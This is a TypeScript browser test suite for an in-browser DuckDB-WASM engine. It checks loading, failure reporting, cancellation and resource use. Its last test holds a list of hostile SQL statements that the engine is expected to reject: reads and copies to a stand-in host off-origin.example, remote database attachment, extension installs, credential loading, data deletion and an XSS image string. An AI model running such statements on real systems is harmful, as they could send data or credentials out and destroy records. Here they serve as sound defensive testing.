import { describe, expect, it } from 'vitest';
import type { Manner } from '../../scripts/engine/testSite.ts';
import type { Failure, MineColumns } from '../../src/query/engine.ts';
import { enginePages, type EngineGlobals } from './enginePages.ts';
import { withoutBrowser } from './visit.ts';

const database = 'data/dung-hen.duckdb.gz';
const isEngine = (path: string): boolean => path.startsWith('engine/');
const damaged = (content: Buffer): Buffer => Buffer.concat([content.subarray(0, content.length / 2), Buffer.alloc(2000, 0x55), content.subarray(content.length / 2 + 2000)]);
const csp = (policy: string): Manner => ({ headers: { 'content-security-policy': policy } });
let serving = true;
const manners: Readonly<Record<string, Manner>> = {
  plain: {},
  text: { text: true },
  declare: { declare: true },
  mute: { mute: true },
  csp: csp("default-src 'self'; script-src 'self' 'wasm-unsafe-eval'"),
  'no-wasm': csp("default-src 'self'; script-src 'self'"),
  'no-worker': csp("default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; worker-src 'none'"),
  'no-engine': { change: (path) => (isEngine(path) && serving ? null : undefined) },
  'no-database': { change: (path) => (path === database && serving ? null : undefined) },
  'no-manifest': { change: (path) => (path === 'data/manifest.json' && serving ? null : undefined) },
  'cut-engine': { change: (path) => (isEngine(path) && serving ? 'cut' : undefined) },
  'cut-database': { change: (path) => (path === database && serving ? 'cut' : undefined) },
  'cut-mute': { mute: true, change: (path) => (isEngine(path) && serving ? 'cut' : undefined) },
  'bad-engine': { change: (path, content) => (isEngine(path) && serving ? damaged(content) : undefined) },
  'bad-database': { change: (path, content) => (path === database && serving ? damaged(content) : undefined) },
  'page-for-database': { change: (path) => (path === database && serving ? Buffer.from('<!doctype html>'.repeat(60_000)) : undefined) },
  'other-rows': { change: (path, content) => (path === 'data/manifest.json' && serving ? Buffer.from(content.toString().replace(/"units": (\d+)/, '"units": 9$1')) : undefined) },
  hang: { change: (path) => (path === database && serving ? 'hang' : undefined) },
};

declare const globalThis: EngineGlobals & typeof global;

describe.skipIf(withoutBrowser)('the engine in a browser', () => {
  const { site, offOrigin, visit, start, run, rows } = enginePages(manners);

  describe('starts from any server', () => {
    it.each(['plain', 'text', 'declare', 'mute', 'csp'])('%s', async (manner) => {
      await visit(manner, async (page) => {
        const complaints: string[] = [];
        page.on('console', (m) => void (m.type() === 'error' && complaints.push(m.text())));
        expect(await start(page)).toEqual({ ok: true, value: undefined });
        expect(await rows(page, 'SELECT count(*) > 200 FROM units')).toEqual([[true]]);
        const states = await page.evaluate(() => globalThis.states);
        const loading = states.filter((s) => s.phase === 'loading');
        expect(loading.every((s) => s.loaded <= s.total)).toBe(true);
        expect(loading.map((s) => s.loaded)).toEqual(loading.map((s) => s.loaded).toSorted((a, b) => (a > 1 && b > 1 ? a - b : 0)));
        expect([...new Set(loading.map((s) => s.stage))]).toEqual(expect.arrayContaining(['engine', 'open']));
        expect(states.at(-1)).toMatchObject({ phase: 'ready' });
        expect(complaints).toEqual([]);
      });
    });
    it('fetches engine, database and manifest once, in at most 8.2 MB, also where nothing is compressed on the way', async () => {
      for (const manner of ['plain', 'text']) {
        site().sent();
        await visit(manner, async (page) => {
          expect(await start(page)).toMatchObject({ ok: true });
          expect(site().asked().filter((p) => /^(engine|data)\//.test(p)).map((p) => p.replace(/-[0-9a-f]{8}\./, '.')).sort()).toEqual([database, 'data/manifest.json', 'engine/duckdb-eh-1.32.0.wasm.gz']);
          const sent = site().sent();
          console.log(`a start of the engine took ${(sent / 1e6).toFixed(2)} MB from a server that compresses ${manner === 'text' ? 'text' : 'nothing'}`);
          expect(sent).toBeGreaterThan(5_000_000);
          expect(sent).toBeLessThanOrEqual(8_200_000);
        });
      }
    });
  });

  describe('fails as a value, and can be started again', () => {
    const failing: readonly (readonly [string, Failure['kind'], RegExp])[] = [
      ['no-engine', 'download', /404/],
      ['no-database', 'download', /404/],
      ['no-manifest', 'download', /404/],
      ['cut-engine', 'download', /duckdb-eh/],
      ['cut-database', 'download', /dung-hen/],
      ['cut-mute', 'download', /duckdb-eh/],
      ['bad-engine', 'corrupt', /duckdb-eh/],
      ['bad-database', 'corrupt', /dung-hen/],
      ['page-for-database', 'download', /dung-hen/],
      ['other-rows', 'corrupt', /units has \d+ rows/],
    ];
    it.each(failing)('%s: %s', async (manner, kind, detail) => {
      await visit(manner, async (page) => {
        const failure = { kind, detail: expect.stringMatching(detail) as string };
        expect(await start(page)).toEqual({ ok: false, failure });
        expect(await page.evaluate(() => globalThis.engine.state())).toEqual({ phase: 'failed', failure });
        expect(await run(page, 'SELECT 1')).toEqual({ ok: false, error: { failure } });
        serving = false;
        try {
          expect(await start(page)).toEqual({ ok: true, value: undefined });
          expect(await rows(page, 'SELECT 1')).toEqual([[1]]);
        } finally {
          serving = true;
        }
      });
    });
    it('no-wasm: the policy of the page forbids WebAssembly', () => visit('no-wasm', async (page) => expect(await start(page)).toMatchObject({ failure: { kind: 'no-wasm' } })));
    it('no-worker: the policy of the page forbids workers', () => visit('no-worker', async (page) => expect(await start(page)).toMatchObject({ failure: { kind: 'no-worker' } })));
    it('timeout: a file never comes', async () => {
      await visit('hang', async (page) => expect(await start(page)).toMatchObject({ failure: { kind: 'timeout', detail: expect.stringContaining('database') as string } }), '?stall=3000');
    });
    it('low-memory: unless a reader insists', async () => {
      await visit('plain', async (page) => {
        expect(await start(page)).toMatchObject({ failure: { kind: 'low-memory' } });
        expect(await start(page, true)).toMatchObject({ ok: true });
      }, '?gigabytes=2');
    });
    it('crashed-before: the page ended while the engine was loading, but not when it was left', async () => {
      await visit('hang', async (page) => {
        await page.evaluate(() => void globalThis.engine.start());
        await page.reload();
        serving = false;
        expect(await start(page)).toMatchObject({ ok: true });
        serving = true;
        await page.addInitScript(() => sessionStorage.setItem('dung-hen.engine', 'at work'));
        await page.reload();
        expect(await start(page)).toMatchObject({ failure: { kind: 'crashed-before' } });
      });
    });
    it('cancelled: while loading', async () => {
      await visit('hang', async (page) => {
        expect(await page.evaluate(() => {
          const started = globalThis.engine.start();
          globalThis.engine.cancel();
          return started;
        })).toMatchObject({ failure: { kind: 'cancelled' } });
      });
    });
  });

  describe('while it works', () => {
    const endless = 'WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t';
    it('cancels a running query, ends one that takes too long, and answers the next', async () => {
      await visit('plain', async (page) => {
        const cancelled = await page.evaluate(async (sql) => {
          const running = globalThis.engine.run(sql);
          await globalThis.engine.start();
          setTimeout(() => globalThis.engine.cancel(), 300);
          return running;
        }, endless);
        expect(cancelled).toMatchObject({ ok: false, error: { failure: { kind: 'cancelled' } } });
        expect(await run(page, endless, [], { timeout: 300 })).toMatchObject({ error: { failure: { kind: 'timeout' } } });
        expect(await page.evaluate(() => globalThis.engine.state().phase)).toBe('ready');
        expect(await rows(page, 'SELECT 1')).toEqual([[1]]);
        expect(site().asked().filter((p) => p.includes('worker'))).toHaveLength(1);
      });
    });
    it('lets a query that does not listen go with its worker, fetching nothing again, and brings back the table of the reader', async () => {
      await visit('plain', async (page) => {
        const table: MineColumns = { columns: [{ name: 'a', kind: 'number', values: [1, 2, null] }] };
        expect(await page.evaluate((t) => globalThis.engine.insertMine(t), table)).toMatchObject({ ok: true, value: { rows: [[3]] } });
        site().asked();
        const deaf = await run(page, "SELECT length(repeat('x', 1500000000) || repeat('y', 1500000000)) + sum(length(repeat('z', 100000000))) FROM range(1000)", [], { timeout: 100, console: true });
        expect(deaf.ok).toBe(false);
        expect(await rows(page, 'SELECT count(*), sum(a) FROM mine')).toEqual([[3, 3]]);
        expect(site().asked().filter((p) => /^(engine|data)\//.test(p))).toEqual([]);
      });
    });
    it('takes 200,000 rows of a reader without holding up the page', async () => {
      await visit('plain', async (page) => {
        await start(page);
        const { outcome, longest } = await page.evaluate(async () => {
          const values = Array.from({ length: 200_000 }, (_, n) => n / 4);
          const names = values.map((n) => `Xã số ${n % 900}`);
          let [last, longest] = [performance.now(), 0];
          const tick = setInterval(() => {
            longest = Math.max(longest, performance.now() - last);
            last = performance.now();
          }, 5);
          const outcome = await globalThis.engine.insertMine({ columns: [{ name: 'ten', kind: 'text', values: names }, { name: 'gia_tri', kind: 'number', values }] });
          clearInterval(tick);
          return { outcome, longest };
        });
        expect(outcome).toMatchObject({ ok: true, value: { rows: [[200_000]] } });
        expect(longest).toBeLessThan(400);
        expect(await rows(page, 'SELECT count(*), sum(gia_tri), count(DISTINCT ten) FROM mine')).toEqual([[200_000, 4_999_975_000, 3600]]);
      });
    });
    it('is let go after a time without a query and with the page', async () => {
      await visit('plain', async (page) => {
        await start(page);
        await page.waitForFunction(() => globalThis.engine.state().phase === 'idle');
        expect(page.workers()).toHaveLength(0);
        site().asked();
        expect(await rows(page, 'SELECT 1')).toEqual([[1]]);
        expect(site().asked().filter((p) => /^(engine|data)\//.test(p))).toEqual([]);
        await page.evaluate(() => void dispatchEvent(new PageTransitionEvent('pagehide')));
        expect(await page.evaluate(() => globalThis.engine.state().phase)).toBe('idle');
      }, '?idle=400');
    });
    it('comes back after a reader let go of the published database', async () => {
      await visit('plain', async (page) => {
        expect(await run(page, 'USE memory; DETACH dung_hen', [], { console: true })).toMatchObject({ error: { failure: { kind: 'stopped' } } });
        expect(await rows(page, 'SELECT count(*) > 200 FROM units')).toEqual([[true]]);
      });
    });
  });

  it('sends nothing anywhere, whatever SQL asks for', async () => {
    const hostile = [
      ...['http', 'https', 's3', 'hf'].flatMap((scheme) => [`SELECT * FROM read_csv('${scheme}://off-origin.example/x.csv')`, `FROM '${scheme}://off-origin.example/x.parquet'`, `COPY units TO '${scheme}://off-origin.example/x.csv'`]),
      "SELECT * FROM read_text('http://off-origin.example/')",
      "SELECT * FROM read_blob('../data/manifest.json')",
      "SELECT * FROM read_json('data/manifest.json')",
      "ATTACH 'https://off-origin.example/x.duckdb' AS x",
      "ATTACH 'data/dung-hen.duckdb' AS x",
      'INSTALL httpfs',
      'SELECT 1; INSTALL httpfs; LOAD httpfs',
      "INSTALL x FROM 'http://off-origin.example'",
      'LOAD parquet',
      "LOAD 'http://off-origin.example/x.duckdb_extension.wasm'",
      'SET autoload_known_extensions = true; SELECT current_date',
      'SET enable_external_access = true',
      "SET custom_extension_repository = 'http://off-origin.example'",
      "CREATE SECRET s (TYPE S3, ENDPOINT 'off-origin.example')",
      "CALL load_aws_credentials()",
      "EXPORT DATABASE 'http://off-origin.example/x'",
      "IMPORT DATABASE 'http://off-origin.example/x'",
      "CREATE TABLE dung_hen.main.x AS SELECT 1",
      'UPDATE observations SET value = 0',
      'DELETE FROM claims',
      "SELECT '<img src=http://off-origin.example/x onerror=alert(1)>' COLLATE vi",
      "PRAGMA add_parquet_key('k', '0123456789112345')",
    ];
    await visit('plain', async (page) => {
      await start(page);
      const [asked, requests]: [readonly string[], string[]] = [site().asked(), []];
      expect(asked.length).toBeGreaterThan(3);
      page.on('request', (r) => void requests.push(r.url()));
      for (const sql of hostile) {
        for (const console of [true, false]) {
          const found = await run(page, sql, [], { console });
          expect(found, sql).toMatchObject({ ok: false, error: { message: expect.stringMatching(/^[\w ]+ Error: /) as string } });
        }
      }
      expect(await rows(page, "SELECT (SELECT count(*) > 200 FROM units), (SELECT count(*) FROM observations WHERE value <> 0) > 1000")).toEqual([[true, true]]);
      expect([site().asked(), requests]).toEqual([[], []]);
    });
  });
  it('sent nothing off the origin in any of these tests', () => {
    expect(offOrigin()).toEqual([]);
  });
});
